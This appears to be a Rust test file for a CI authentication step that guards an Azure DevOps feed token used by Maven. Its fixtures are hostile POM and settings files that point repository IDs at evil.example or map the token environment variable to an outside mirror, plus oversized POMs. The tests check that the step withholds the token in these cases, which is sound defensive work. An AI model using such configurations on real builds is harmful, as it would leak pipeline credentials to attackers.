//! Files of other names that Maven is pointed at.

use ado_entra_auth_emulator::agent::Job;

use crate::maven_attacks::Becomes::{Served, Withheld};
use crate::maven_attacks::{FEED, Row, VALIDATE, check, child, greedy, maven39, project, repositories};
use crate::support::{assert_refused, emulator, job, read, run, step, tool, warned, with_token, write, write_file};

fn settings(inner: &str) -> String {
    format!(
        "<settings>{inner}<profiles><profile><id>p</id>{}</profile></profiles><activeProfiles><activeProfile>p</activeProfile>\
         </activeProfiles></settings>",
        repositories(&[("feed1", FEED)])
    )
}

#[test]
fn projects_of_other_names_count() {
    let own = || ("pom.xml", project("app", &repositories(&[("feed1", FEED)])));
    let evil = || project("other", &repositories(&[("feed1", "https://evil.example/maven")]));
    let rows = [
        Row {
            name: "a project of another name",
            files: vec![("pom-ci.xml", project("app", &repositories(&[("feed1", FEED)])))],
            run: ("", "mvn -B -U -f pom-ci.xml validate"),
            becomes: Served,
        },
        Row {
            name: "another address in a flattened one",
            files: vec![own(), (".flattened-pom.xml", evil())],
            run: ("", "mvn -B -U -f .flattened-pom.xml validate"),
            becomes: Withheld(&["'feed1'", ".flattened-pom.xml", "no token"]),
        },
        Row {
            name: "another address in a file with the ending of the repository",
            files: vec![own(), ("tools/release.pom", evil())],
            run: ("tools", "mvn -B -U -f release.pom validate"),
            becomes: Withheld(&["'feed1'", "tools/release.pom", "no token"]),
        },
        Row {
            name: "what seems fetched counts in the checkout",
            files: vec![own(), (".m2/repository/org/other/1.0/other-1.0.pom", evil())],
            run: ("", "mvn -B -U validate"),
            becomes: Withheld(&["'feed1'", "other-1.0.pom", "no token"]),
        },
        Row {
            name: "a name in a plugin's configuration",
            files: vec![
                own(),
                (
                    "deploy/pom.xml",
                    project(
                        "deploy",
                        "<properties><altDeploymentRepository>feed1::default::https://evil.example/maven</altDeploymentRepository>\
                         </properties>",
                    )
                    .replace("<dependencyManagement>", &format!("{}<dependencyManagement>", repositories(&[("x", "https://evil.example/maven")]))),
                ),
            ],
            run: ("deploy", "mvn -B -U validate"),
            becomes: Withheld(&["'feed1'", "deploy/pom.xml", "no token"]),
        },
    ];
    check(&rows, &step());
}

#[test]
fn the_plugin_deploys_own_properties_name_repositories() {
    let property =
        |text: &str| format!("<properties><altDeploymentRepository>{text}</altDeploymentRepository></properties>");
    let rows = [
        ("pom.xml", project("app", &property(&format!("contoso::default::{FEED}")))),
        ("pom.xml", project("app", &property(&format!("contoso::{FEED}")))),
        (
            "pom.xml",
            project(
                "app",
                &format!("<profiles><profile><id>r</id>{}</profile></profiles>", property(&format!("contoso::{FEED}"))),
            )
            .replace("altDep", "altSnapshotDep"),
        ),
    ];
    for (path, text) in rows {
        let emulator = emulator();
        let mut job = job(&emulator);
        write(&job, path, &text);
        let outcome = run(&emulator, &mut job, &step());
        assert!(outcome.warnings.is_empty(), "{:?}", outcome.warnings);
        let written = read(job.home().join(".m2/settings.xml"));
        assert!(written.contains("<id>contoso</id>"), "{text}\n{written}");
    }
}

/// A job in which Maven 3.9 builds a project with these arguments, and whether the feed saw the token.
fn built39(job: &mut Job<'_>, arguments: &str) -> String {
    let script = format!("{}/maven/bin/mvn -B -U {arguments} validate", job.root().display());
    let sources = job.sources();
    job.run_script(&script, &sources).unwrap().raw
}

#[test]
fn settings_that_are_given_by_an_argument() {
    // The plain command of Maven 3.8 cannot see the file at home then; the warning says so, and what helps does.
    let by_config = |job: &Job<'_>| {
        write(job, ".mvn/maven.config", "-s\n.mvn/settings.xml\n");
        write(job, ".mvn/settings.xml", settings(""));
        write(job, "pom.xml", project("app", ""));
    };
    let emulator = greedy();
    let mut old = job(&emulator);
    by_config(&old);
    let outcome = run(&emulator, &mut old, &step());
    let words = [".mvn/maven.config", ".mvn/settings.xml", "in place of", "Maven 3.9", "remove that argument"];
    assert!(warned(&outcome, &words) && outcome.warnings.len() == 1, "{:?}", outcome.warnings);
    if tool("mvn").is_some() {
        let sources = old.sources();
        emulator.clear_requests();
        old.run_script("mvn -B -U validate", &sources).unwrap();
        assert!(with_token(&emulator.requests()).is_empty());
        // Without the argument the servers are found, wherever the repository is named.
        std::fs::remove_file(sources.join(".mvn/maven.config")).unwrap();
        write(&old, "pom.xml", project("app", &repositories(&[("feed1", FEED)])));
        old.run_script("mvn -B -U validate", &sources).unwrap();
        assert!(!with_token(&emulator.requests_to("pkgs.dev.azure.com")).is_empty());
    }
    for (path, arguments) in [(".mvn/settings.xml", ""), ("ci/settings-azure.xml", "-s ci/settings-azure.xml")] {
        let emulator = greedy();
        let mut new = job(&emulator);
        let Some(step) = maven39(&new) else { return };
        if arguments.is_empty() {
            by_config(&new);
        } else {
            write(&new, path, settings(""));
            write(&new, "pom.xml", project("app", ""));
        }
        let outcome = run(&emulator, &mut new, &step);
        assert!(outcome.warnings.is_empty(), "{:?}", outcome.warnings);
        emulator.clear_requests();
        let shown = built39(&mut new, arguments);
        assert!(!with_token(&emulator.requests_to("pkgs.dev.azure.com")).is_empty(), "{path}: {shown}");
    }
}

#[test]
fn settings_of_any_name_that_would_send_the_token_stop_the_step() {
    let emulator = emulator();
    let mut job = job(&emulator);
    let server = "<servers><server><id>evil</id><username>x</username><password>${env.ADO_ENTRA_TOKEN}</password></server></servers>\
        <mirrors><mirror><id>evil</id><mirrorOf>x</mirrorOf><url>https://registry.example.com/m2</url></mirror></mirrors>";
    write(&job, "ci/settings-x.xml", settings(server));
    assert_refused(&emulator, &mut job, &step(), &["ci/settings-x.xml", "ADO_ENTRA_TOKEN"]);
}

#[test]
fn feeds_that_only_the_users_settings_name_are_told() {
    let emulator = emulator();
    let mut job = job(&emulator);
    write_file(&job.home().join(".m2/settings.xml"), settings(""));
    let outcome = run(&emulator, &mut job, &step());
    assert!(outcome.warnings.is_empty(), "{:?}", outcome.warnings);
    let line = outcome.log.lines().find(|line| line.contains("maven")).unwrap_or_default();
    assert!(line.contains("contoso/feed1") && line.contains("add maven to the input 'tools'"), "{}", outcome.log);
}

/// No file of a repository takes the step's time or memory.
#[test]
fn endless_projects_are_not_followed() {
    let emulator = emulator();
    let mut job = job(&emulator);
    for number in 0..300 {
        let parent = format!(
            "<parent><groupId>com.example</groupId><artifactId>m{}</artifactId><version>1</version><relativePath>../m{0}</relativePath>\
             </parent>",
            number - 1
        );
        let inner = if number == 0 { repositories(&[("feed1", FEED)]) } else { parent };
        write(&job, &format!("m{number}/pom.xml"), project(&format!("m{number}"), &inner));
    }
    let outcome = run(&emulator, &mut job, &step());
    assert!(warned(&outcome, &["more parents", "no name gets a token"]), "{:?}", outcome.warnings);
    assert!(outcome.warnings.len() <= 2, "{:?}", outcome.warnings);
    let mut job = self::job(&emulator);
    write(&job, "pom.xml", project("app", &repositories(&[("feed1", FEED)])));
    write(&job, "elements/pom.xml", format!("<project>{}</project>", "<a/>".repeat(300_000)));
    let outcome = run(&emulator, &mut job, &step());
    assert!(
        warned(&outcome, &["elements/pom.xml", "too many elements", "no name gets a token"]),
        "{:?}",
        outcome.warnings
    );
}

/// A repository of Maven's in the checkout may hold a parent that gives a name another address.
#[test]
fn parents_in_a_repository_of_the_checkout_are_seen() {
    const EVIL: &str = "<pluginRepositories><pluginRepository><id>feed1</id><url>https://evil.example/m</url></pluginRepository>\
        </pluginRepositories>";
    let parent = |inner: &str| project("base", inner);
    let app = |local: &[(&str, &str)]| {
        let pom = child(&repositories(&[local, &[("feed1", FEED)]].concat()));
        ("pom.xml", pom.replace("</parent>", "<relativePath/></parent>"))
    };
    let at = "repo/com/example/base/1/base-1.pom";
    let arguments = (".mvn/maven.config", "-Dmaven.repo.local=repo".to_owned());
    let withheld = || Withheld(&["'feed1'", "no token"]);
    let rows = [
        Row {
            name: "a file: repository",
            files: vec![app(&[("l", "file:repo")]), (at, parent(EVIL))],
            run: ("", VALIDATE),
            becomes: withheld(),
        },
        Row {
            name: "among dependencies",
            files: vec![
                app(&[("l", "file:node_modules/repo")]),
                ("node_modules/repo/com/example/base/1/base-1.pom", parent(EVIL)),
            ],
            run: ("", VALIDATE),
            becomes: Withheld(&["pom.xml", "no name gets a token"]),
        },
        Row {
            name: "the local repository",
            files: vec![app(&[]), arguments, (at, parent(EVIL))],
            run: ("", VALIDATE),
            becomes: withheld(),
        },
        Row {
            name: "a parent that names nothing",
            files: vec![app(&[("l", "file:repo")]), (at, parent(""))],
            run: ("", VALIDATE),
            becomes: Served,
        },
    ];
    check(&rows, &step());
}
